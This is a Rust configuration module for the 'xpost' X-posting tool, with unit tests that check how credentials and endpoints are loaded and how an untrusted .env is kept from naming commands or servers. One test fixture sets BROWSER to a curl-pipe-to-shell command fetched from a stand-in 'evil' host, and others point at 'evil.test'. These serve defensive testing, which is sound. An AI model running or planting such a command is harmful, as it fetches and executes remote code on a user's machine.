//! Configuration: credentials and endpoints from the environment and `.env`.
//!
//! [`Env`] is the one place where xpost reads environment variables: the process environment
//! first, then `.env` in the working directory (or the file given with `--env-file`), so a
//! `.env` may set what the environment may, `XPOST_HOME` included, but for a command to run:
//! `BROWSER` is taken from the environment or an `--env-file` given by name, never from a
//! `./.env` that merely sits in the directory xpost runs in (a cloned repository's `.env`
//! would otherwise run a program of its choosing at the first consent); and such a `./.env`
//! names another server only with the credentials for it, and sets where post URLs point
//! (`X_WEB_BASE`) or logins are kept (`XPOST_HOME`) only with the server they are for
//! ([`check_sources`]).
//! After them comes the app the user set up with `xpost auth setup` ([`Stored`], kept in the
//! user's configuration directory and the keyring): it fills in only what the environment and
//! the file leave unset, and only as a whole — not at all when they name another server (a
//! `./.env` naming its own server never gets the user's stored secrets), its OAuth 2.0 app only
//! when they set no client id or secret, its four keys only when they set none ([`stored_names`]).
//! [`Config::from_lookup`] is pure: it takes a lookup function, checks every value, and
//! reports all missing or malformed names in one error.

pub mod dirs;
mod env;
mod names;
mod resolve;
mod sources;
mod stored;

pub use env::{Browser, Env, parse_env};
pub use names::{
    DEFAULT_API_BASE, DEFAULT_AUTHORIZE_URL, DEFAULT_REDIRECT_URI, DEFAULT_WEB_BASE, Method, Plan,
    choose_method, is_ci, switch,
};
pub use resolve::{Config, join};
pub use sources::{SECRETS, Source, check_dotenv_setting, check_sources};
pub use stored::{SETUP_SETTINGS, SecretsReader, Stored, stored_names};

#[cfg(test)]
mod tests {
    use super::env::{ENV_FILE_LIMIT, only_named_files, read_env_file};
    use super::*;
    use crate::error::Exit;
    use std::collections::HashMap;
    use std::path::{Path, PathBuf};
    use std::sync::OnceLock;

    fn lookup<'a>(pairs: &'a [(&'a str, &'a str)]) -> impl Fn(&str) -> Option<String> + 'a {
        move |name| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.to_string())
        }
    }

    const FULL: &[(&str, &str)] = &[
        ("X_CLIENT_ID", "client-id"),
        ("X_CLIENT_SECRET", "client-secret"),
        ("X_API_KEY", "ck"),
        ("X_API_SECRET", "cs"),
        ("X_ACCESS_TOKEN", "at"),
        ("X_ACCESS_TOKEN_SECRET", "ats"),
    ];

    #[test]
    fn defaults_apply() {
        let config = Config::from_lookup(lookup(FULL)).unwrap();
        assert_eq!(config.api_base.as_str(), "https://api.x.com/");
        assert_eq!(config.authorize_url.as_str(), DEFAULT_AUTHORIZE_URL);
        assert_eq!(config.redirect_uri.as_str(), DEFAULT_REDIRECT_URI);
        assert_eq!(
            config.client_secret.as_ref().unwrap().expose(),
            "client-secret"
        );
        assert!(config.oauth1.is_some());
        assert!(config.warnings.is_empty());
        assert_eq!(
            config.endpoint("/2/tweets").as_str(),
            "https://api.x.com/2/tweets"
        );
    }

    #[test]
    fn every_missing_name_is_listed_once() {
        let err = Config::from_lookup(lookup(&[("X_REDIRECT_URI", "https://example.com/cb")]))
            .unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        let text = err.to_string();
        assert!(text.contains("X_CLIENT_ID"), "{text}");
        assert!(
            text.contains("OAuth 2.0 Client ID and Client Secret"),
            "{text}"
        );
        assert!(text.contains("X_REDIRECT_URI"), "{text}");
        assert!(text.contains("must start with http://"), "{text}");
        assert!(text.contains("example.env"), "{text}");
    }

    #[test]
    fn public_client_without_secret() {
        let config = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id")])).unwrap();
        assert!(config.client_secret.is_none());
        assert!(config.oauth1.is_none());
        assert!(config.warnings.is_empty());
    }

    #[test]
    fn partial_oauth1_falls_back_with_a_warning() {
        let config = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_KEY", "ck"),
            ("X_API_SECRET", "  "),
        ]))
        .unwrap();
        assert!(config.oauth1.is_none());
        assert_eq!(config.warnings.len(), 1);
        assert!(config.warnings[0].contains("X_API_SECRET, X_ACCESS_TOKEN, X_ACCESS_TOKEN_SECRET"));
    }

    #[test]
    fn redirect_must_be_loopback_http_with_port() {
        for (uri, expect) in [
            ("http://example.com:5000/cb", "must point at this machine"),
            ("http://127.0.0.1/cb", "explicit port"),
            ("not a url", "is not a URL"),
        ] {
            let err =
                Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("X_REDIRECT_URI", uri)]))
                    .unwrap_err();
            assert!(err.to_string().contains(expect), "{uri}: {err}");
        }
        for uri in [
            "http://localhost:8080/cb",
            "http://[::1]:5000/oauth/callback",
        ] {
            let config =
                Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("X_REDIRECT_URI", uri)]))
                    .unwrap();
            assert_eq!(config.redirect_uri.as_str(), uri);
        }
    }

    #[test]
    fn endpoints_keep_a_base_path() {
        let config = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_BASE", "http://127.0.0.1:9000/fake-x/"),
        ]))
        .unwrap();
        assert_eq!(
            config.endpoint("/2/oauth2/token").as_str(),
            "http://127.0.0.1:9000/fake-x/2/oauth2/token"
        );
    }

    #[test]
    fn secrets_do_not_show_in_debug() {
        let config = Config::from_lookup(lookup(FULL)).unwrap();
        let debug = format!("{config:?}");
        for secret in ["client-secret", "\"cs\"", "\"at\"", "\"ats\""] {
            assert!(!debug.contains(secret), "{secret} leaked: {debug}");
        }
    }

    #[test]
    fn env_file_parse_errors_do_not_quote_the_line() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        std::fs::write(&path, "X_CLIENT_SECRET='unterminated-secret-value\n").unwrap();
        let err = read_env_file(Some(&path)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(
            !err.to_string().contains("unterminated-secret-value"),
            "{err}"
        );
    }

    #[test]
    fn env_file_parse_errors_name_the_line() {
        let text = "# xpost\nX_CLIENT_ID=abc\n\nX_CLIENT_SECRET='unterminated-secret-value\n";
        let why = parse_env(text).unwrap_err();
        assert!(why.starts_with("cannot parse line 4"), "{why}");
        assert!(!why.contains("unterminated"), "{why}");
        let why = parse_env("A=1\nB C\n").unwrap_err();
        assert!(why.starts_with("cannot parse line 2"), "{why}");
    }

    #[test]
    fn env_file_with_a_byte_order_mark_is_read() {
        let vars = parse_env("\u{feff}X_CLIENT_ID=abc\nX_API_KEY=k\n").unwrap();
        assert_eq!(vars.get("X_CLIENT_ID").map(String::as_str), Some("abc"));
        assert_eq!(vars.get("X_API_KEY").map(String::as_str), Some("k"));
    }

    #[test]
    fn a_huge_env_file_is_refused_unread() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        std::fs::write(&path, "#".repeat(ENV_FILE_LIMIT as usize + 10)).unwrap();
        let err = read_env_file(Some(&path)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("larger than 1024 KiB"), "{err}");
    }

    #[test]
    fn the_error_names_half_set_oauth1_keys_with_the_missing_client_id() {
        let err = Config::from_lookup(lookup(&[("X_API_KEY", "k"), ("X_ACCESS_TOKEN", "1-t")]))
            .unwrap_err();
        let message = err.to_string();
        for name in ["X_CLIENT_ID", "X_API_SECRET", "X_ACCESS_TOKEN_SECRET"] {
            assert!(message.contains(name), "{name} not named: {message}");
        }
        assert!(!message.contains("X_API_KEY "), "{message}");
    }

    #[test]
    fn missing_named_env_file_is_an_error_but_missing_dotenv_is_not() {
        let dir = tempfile::tempdir().unwrap();
        let err = read_env_file(Some(&dir.path().join("nope.env"))).unwrap_err();
        assert_eq!(err.exit(), Exit::NoInput);
    }

    fn env(pairs: &'static [(&'static str, &'static str)]) -> Env {
        Env::from_lookup(move |name| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.to_string())
        })
    }

    #[test]
    fn endpoints_and_secrets_must_come_from_one_place() {
        let config = |api: &'static str, consent: &'static str| {
            Config::from_lookup(lookup(&[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", api),
                ("X_AUTHORIZE_URL", consent),
            ]))
            .unwrap()
        };
        let file = || Source::File(PathBuf::from(".env"));
        let x = config("https://api.x.com", "https://x.com/i/oauth2/authorize");
        let other = config(
            "http://127.0.0.1:9",
            "http://127.0.0.1:9/i/oauth2/authorize",
        );
        let half = config("http://127.0.0.1:9", "https://x.com/i/oauth2/authorize");
        // X's own endpoints, from anywhere: fine.
        assert!(check_sources(|_| Source::Environment, &x).is_ok());
        // Another server and every secret from one place: fine.
        assert!(check_sources(|_| file(), &other).is_ok());
        assert!(check_sources(|_| Source::Environment, &other).is_ok());
        // Another API base with X's consent page: refused, wherever it came from.
        let err = check_sources(|_| Source::Environment, &half).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(
            err.to_string().contains("X_AUTHORIZE_URL is X's own"),
            "{err}"
        );
        // Another server from a file, a secret from the environment: refused.
        let mixed = |name: &str| {
            if name.starts_with("X_API_BASE") || name == "X_AUTHORIZE_URL" {
                file()
            } else {
                Source::Environment
            }
        };
        let err = check_sources(mixed, &other).unwrap_err();
        assert!(
            err.to_string()
                .contains("X_CLIENT_SECRET comes from the environment"),
            "{err}"
        );
        // The endpoints from two places: refused.
        let split = |name: &str| {
            if name == "X_API_BASE" {
                file()
            } else {
                Source::Environment
            }
        };
        assert!(check_sources(split, &other).is_err());
    }

    #[test]
    fn a_dotenvs_server_needs_its_client_id_and_its_urls_and_home_need_its_server() {
        let other = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_BASE", "http://127.0.0.1:9"),
            ("X_AUTHORIZE_URL", "http://127.0.0.1:9/i/oauth2/authorize"),
        ]))
        .unwrap();
        let x = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id")])).unwrap();
        let from = |dotenv: &'static [&'static str]| {
            move |name: &str| {
                if dotenv.contains(&name) {
                    Source::DotEnv
                } else if name == "X_CLIENT_ID" {
                    Source::Environment
                } else {
                    Source::Default
                }
            }
        };
        // ./.env names the server, the person's environment gives the client id: refused.
        let err = check_sources(from(&["X_API_BASE", "X_AUTHORIZE_URL"]), &other).unwrap_err();
        assert!(
            err.to_string()
                .contains("X_CLIENT_ID comes from the environment"),
            "{err}"
        );
        // The client id from ./.env beside X's own servers: the ordinary set-up.
        assert!(check_sources(from(&["X_CLIENT_ID"]), &x).is_ok());
        // Where post URLs point, from ./.env without its server: refused; with it: fine.
        let err = check_sources(from(&["X_WEB_BASE"]), &x).unwrap_err();
        assert!(err.to_string().contains("sets X_WEB_BASE"), "{err}");
        let together = from(&["X_API_BASE", "X_AUTHORIZE_URL", "X_CLIENT_ID", "X_WEB_BASE"]);
        assert!(check_sources(together, &other).is_ok());
        assert!(check_dotenv_setting("XPOST_HOME", from(&["XPOST_HOME"])).is_err());
        assert!(check_dotenv_setting("XPOST_HOME", from(&["XPOST_HOME", "X_API_BASE"])).is_ok());
        // From the environment or a file given by name: the person's choice.
        assert!(check_dotenv_setting("XPOST_HOME", |_| Source::Environment).is_ok());
        let named = |_: &str| Source::File(PathBuf::from("web.env"));
        assert!(check_dotenv_setting("X_WEB_BASE", named).is_ok());
    }

    #[test]
    fn the_plan_is_the_flag_else_x_plan_else_self_serve() {
        let env = |value: Option<&'static str>| {
            Env::from_lookup(move |name| {
                (name == "X_PLAN")
                    .then_some(value)
                    .flatten()
                    .map(Into::into)
            })
        };
        assert_eq!(env(None).plan(None).unwrap(), Plan::SelfServe);
        assert_eq!(
            env(Some("Enterprise")).plan(None).unwrap(),
            Plan::Enterprise
        );
        assert_eq!(
            env(Some("pay-per-use")).plan(None).unwrap(),
            Plan::SelfServe
        );
        assert_eq!(
            env(Some("enterprise")).plan(Some(Plan::SelfServe)).unwrap(),
            Plan::SelfServe
        );
        let err = env(Some("free\u{1b}[2J")).plan(None).unwrap_err();
        assert_eq!(err.exit(), crate::error::Exit::Config);
        assert!(err.message().contains("X_PLAN"), "{err}");
        assert!(!err.message().contains('\u{1b}'), "{err}");
    }

    #[test]
    fn an_implicit_dotenv_may_not_name_a_command() {
        let mut vars: HashMap<String, String> = [
            ("BROWSER", "sh -c 'curl evil | sh'"),
            ("XPOST_HOME", "/home/me/xpost"),
            ("XPOST_INSECURE_STORAGE", "1"),
            ("X_CLIENT_ID", "id"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        assert_eq!(
            only_named_files(&mut vars),
            ["BROWSER", "XPOST_INSECURE_STORAGE"]
        );
        assert!(!vars.contains_key("BROWSER"));
        assert_eq!(vars.len(), 2, "the rest is kept: {vars:?}");
    }

    #[test]
    fn state_dir() {
        // Each platform's rules are dirs' tests; here, what Env adds: XPOST_HOME first, empty
        // counting as unset, and an error when nothing says where.
        let at = |pairs: &'static [(&'static str, &'static str)]| env(pairs).state_dir().unwrap();
        let home_state = Path::new("/h").join(".local").join("state").join("xpost");
        assert_eq!(at(&[("XPOST_HOME", "/a"), ("HOME", "/h")]), Path::new("/a"));
        const STATE: &str = if cfg!(windows) { r"C:\s" } else { "/s" };
        assert_eq!(
            at(&[("XDG_STATE_HOME", STATE), ("HOME", "/h")]),
            Path::new(STATE).join("xpost")
        );
        assert_eq!(at(&[("XDG_STATE_HOME", "rel"), ("HOME", "/h")]), home_state);
        assert_eq!(at(&[("XPOST_HOME", ""), ("HOME", "/h")]), home_state);
        let err = env(&[]).state_dir().unwrap_err();
        let variable = if cfg!(windows) {
            "LOCALAPPDATA"
        } else {
            "HOME"
        };
        assert!(
            err.message().contains(&format!("{variable} is not set")),
            "{err}"
        );
    }

    #[test]
    fn browser() {
        let browser = env(&[("BROWSER", "firefox")]).browser();
        assert_eq!(browser.command.as_deref(), Some("firefox"));
        assert!(browser.available());
        assert!(env(&[("BROWSER", " ")]).browser().command.is_none());
        if cfg!(target_os = "linux") {
            assert!(!env(&[]).browser().available());
            assert!(
                env(&[("WAYLAND_DISPLAY", "wayland-0")])
                    .browser()
                    .available()
            );
        }
    }

    #[test]
    fn the_method_follows_the_configuration_never_the_situation() {
        use Method::*;
        // Asked for (--auth or XPOST_AUTH): that one, whatever is configured.
        for client_id in [false, true] {
            for keys in [false, true] {
                assert_eq!(choose_method(Some(OAuth1), client_id, keys), Some(OAuth1));
                assert_eq!(choose_method(Some(OAuth2), client_id, keys), Some(OAuth2));
            }
        }
        // Not asked: OAuth 2.0 when X_CLIENT_ID is set, even with the four keys.
        assert_eq!(choose_method(None, true, true), Some(OAuth2));
        assert_eq!(choose_method(None, true, false), Some(OAuth2));
        assert_eq!(choose_method(None, false, true), Some(OAuth1));
        assert_eq!(choose_method(None, false, false), None);
    }

    #[test]
    fn ci_is_any_value_but_empty_0_or_false() {
        for on in ["true", "1", "yes", "TRUE", "github", " true "] {
            assert!(is_ci(Some(on)), "{on:?}");
        }
        for off in ["", "  ", "0", "false", "False", "FALSE"] {
            assert!(!is_ci(Some(off)), "{off:?}");
        }
        assert!(!is_ci(None));
        assert!(env(&[("CI", "true")]).ci());
        assert!(!env(&[("CI", "false")]).ci());
        assert!(!env(&[]).ci());
    }

    #[test]
    fn insecure_storage_is_on_off_or_an_error() {
        for on in ["1", "true", "YES", " on "] {
            assert_eq!(switch(Some(on)), Ok(true), "{on:?}");
        }
        for off in ["", " ", "0", "false", "No", "off"] {
            assert_eq!(switch(Some(off)), Ok(false), "{off:?}");
        }
        assert_eq!(switch(None), Ok(false));
        assert_eq!(switch(Some("maybe")), Err("maybe".to_owned()));
        let on = env(&[("XPOST_INSECURE_STORAGE", "1")]);
        assert!(on.insecure_storage(false).unwrap());
        let off = env(&[("XPOST_INSECURE_STORAGE", "no")]);
        assert!(!off.insecure_storage(false).unwrap());
        // --insecure-storage wins over an "off".
        assert!(off.insecure_storage(true).unwrap());
        assert!(!env(&[]).insecure_storage(false).unwrap());
        let junk = env(&[("XPOST_INSECURE_STORAGE", "\u{1b}[2Jkeyring please")]);
        let err = junk.insecure_storage(false).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("XPOST_INSECURE_STORAGE"), "{err}");
        assert!(!err.to_string().contains('\u{1b}'), "{err}");
    }

    const KEYS: &[(&str, &str)] = &[
        ("X_API_KEY", "ck"),
        ("X_API_SECRET", "cs"),
        ("X_ACCESS_TOKEN", "1-at"),
        ("X_ACCESS_TOKEN_SECRET", "ats"),
    ];

    #[test]
    fn the_four_keys_alone_configure_oauth1() {
        let config = Config::from_lookup(lookup(KEYS)).unwrap();
        assert_eq!(config.method, Method::OAuth1);
        assert!(config.client_id.is_none());
        assert!(config.oauth1.is_some());
        // With X_CLIENT_ID too, OAuth 2.0 unless asked otherwise.
        assert_eq!(
            Config::from_lookup(lookup(FULL)).unwrap().method,
            Method::OAuth2
        );
        let asked = Config::resolve(lookup(FULL), Some(Method::OAuth1)).unwrap();
        assert_eq!(asked.method, Method::OAuth1);
        let mut with_env: Vec<(&str, &str)> = FULL.to_vec();
        with_env.push(("XPOST_AUTH", "oauth1"));
        assert_eq!(
            Config::from_lookup(lookup(&with_env)).unwrap().method,
            Method::OAuth1
        );
        // --auth wins over XPOST_AUTH.
        assert_eq!(
            Config::resolve(lookup(&with_env), Some(Method::OAuth2))
                .unwrap()
                .method,
            Method::OAuth2
        );
    }

    #[test]
    fn an_asked_method_needs_its_own_names() {
        let err = Config::resolve(lookup(KEYS), Some(Method::OAuth2)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("X_CLIENT_ID"), "{err}");
        let err = Config::resolve(
            lookup(&[("X_CLIENT_ID", "id"), ("X_API_KEY", "k")]),
            Some(Method::OAuth1),
        )
        .unwrap_err();
        let text = err.to_string();
        for name in ["X_API_SECRET", "X_ACCESS_TOKEN", "X_ACCESS_TOKEN_SECRET"] {
            assert!(text.contains(name), "{name}: {text}");
        }
        assert!(!text.contains("X_CLIENT_ID"), "{text}");
        let err = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("XPOST_AUTH", "oauth3")]))
            .unwrap_err();
        assert!(err.to_string().contains("XPOST_AUTH"), "{err}");
    }

    #[test]
    fn nothing_configured_names_both_ways() {
        let text = Config::from_lookup(lookup(&[])).unwrap_err().to_string();
        for name in [
            "X_CLIENT_ID",
            "X_API_KEY",
            "X_API_SECRET",
            "X_ACCESS_TOKEN",
            "X_ACCESS_TOKEN_SECRET",
            "--auth oauth1",
            "--auth oauth2",
        ] {
            assert!(text.contains(name), "{name}: {text}");
        }
    }

    fn stored(settings: &[(&str, &str)], secrets: &[(&str, &str)]) -> Stored {
        let secrets: HashMap<String, String> = secrets
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        Stored {
            name: "default".to_owned(),
            path: PathBuf::from("/home/me/.config/xpost/config.json"),
            settings: settings
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            secret_names: secrets.keys().cloned().collect(),
            secrets_at: Source::Keyring("service xpost, user app-default@api.x.com/0".to_owned()),
            read_secrets: Box::new(move || Ok(secrets.clone())),
            read: OnceLock::new(),
        }
    }

    #[test]
    fn a_stored_app_fills_in_what_is_unset_and_says_so() {
        let env = env(&[("HOME", "/h")]).with_stored(stored(
            &[("X_API_KEY", "ck")],
            &[
                ("X_API_SECRET", "cs"),
                ("X_ACCESS_TOKEN", "1-at"),
                ("X_ACCESS_TOKEN_SECRET", "ats"),
            ],
        ));
        let config = env.config().unwrap();
        assert_eq!(config.method, Method::OAuth1);
        assert!(matches!(env.source("X_API_KEY"), Source::Setup(_)));
        assert!(matches!(env.source("X_API_SECRET"), Source::Keyring(_)));
        assert!(
            env.source("X_API_SECRET")
                .to_string()
                .starts_with("the system keyring")
        );
        assert_eq!(env.source("X_CLIENT_ID"), Source::Default);
    }

    #[test]
    fn a_stored_app_goes_to_no_other_server_and_its_secret_with_no_other_id() {
        let higher = |pairs: &'static [(&'static str, &'static str)]| {
            move |name: &str| {
                pairs
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| (*v).to_owned())
            }
        };
        let at_x = |_: &str| None;
        let sandbox =
            |name: &str| (name == "X_API_BASE").then(|| "http://127.0.0.1:8700".to_owned());
        // A ./.env naming its own server: nothing of the user's app.
        assert!(stored_names(higher(&[("X_API_BASE", "http://evil.test")]), at_x).is_empty());
        assert!(
            stored_names(higher(&[("X_AUTHORIZE_URL", "http://evil.test/a")]), at_x).is_empty()
        );
        // The same server, or none named: the app.
        let all = stored_names(higher(&[("X_API_BASE", "https://api.x.com/")]), at_x);
        assert!(all.contains(&"X_CLIENT_SECRET") && all.contains(&"X_API_SECRET"));
        assert!(stored_names(higher(&[]), at_x).contains(&"X_CLIENT_SECRET"));
        // An app kept for the sandbox, with X named (or nothing named, which is X): not used
        // when X is named.
        assert!(stored_names(higher(&[("X_API_BASE", "https://api.x.com")]), sandbox).is_empty());
        // Another client id: the stored secret stays home; the four keys still fill in.
        let names = stored_names(higher(&[("X_CLIENT_ID", "theirs")]), at_x);
        assert!(!names.contains(&"X_CLIENT_SECRET") && !names.contains(&"X_CLIENT_ID"));
        assert!(names.contains(&"X_ACCESS_TOKEN_SECRET"));
        // One of the four keys set: none of the stored four.
        let names = stored_names(higher(&[("X_ACCESS_TOKEN", "1-t")]), at_x);
        assert!(!names.contains(&"X_API_SECRET"));
        assert!(names.contains(&"X_CLIENT_SECRET"));
    }

    #[test]
    fn a_stored_app_for_another_server_keeps_its_secrets_from_one_named_elsewhere() {
        // The user's app for the sandbox, X_API_SECRET from the environment: refused, as a
        // secret must come from where its server is named.
        let env = env(&[("X_API_SECRET", "mine")]).with_stored(stored(
            &[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", "http://127.0.0.1:8700"),
                (
                    "X_AUTHORIZE_URL",
                    "http://127.0.0.1:8700/i/oauth2/authorize",
                ),
            ],
            &[],
        ));
        let err = env.config().unwrap_err();
        assert!(
            err.to_string()
                .contains("X_API_SECRET comes from the environment"),
            "{err}"
        );
        // All of it from the set-up: fine, the keyring and the file being one place.
        let env = Env::from_lookup(|_| None).with_stored(stored(
            &[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", "http://127.0.0.1:8700"),
                (
                    "X_AUTHORIZE_URL",
                    "http://127.0.0.1:8700/i/oauth2/authorize",
                ),
            ],
            &[("X_CLIENT_SECRET", "cs")],
        ));
        let config = env.config().unwrap();
        assert_eq!(config.client_secret.unwrap().expose(), "cs");
    }

    #[test]
    fn an_unreadable_keyring_is_an_error_only_when_its_secrets_are_needed() {
        let mut app = stored(&[("X_CLIENT_ID", "id")], &[("X_CLIENT_SECRET", "cs")]);
        app.read_secrets = Box::new(|| Err("it is locked".to_owned()));
        let err = Env::from_lookup(|_| None)
            .with_stored(app)
            .config()
            .unwrap_err();
        assert!(err.to_string().contains("it is locked"), "{err}");
        let mut app = stored(&[("X_CLIENT_ID", "id")], &[("X_CLIENT_SECRET", "cs")]);
        app.read_secrets = Box::new(|| Err("it is locked".to_owned()));
        let theirs = env(&[("X_CLIENT_ID", "theirs")]).with_stored(app);
        assert_eq!(theirs.config().unwrap().client_id(), "theirs");
    }
}
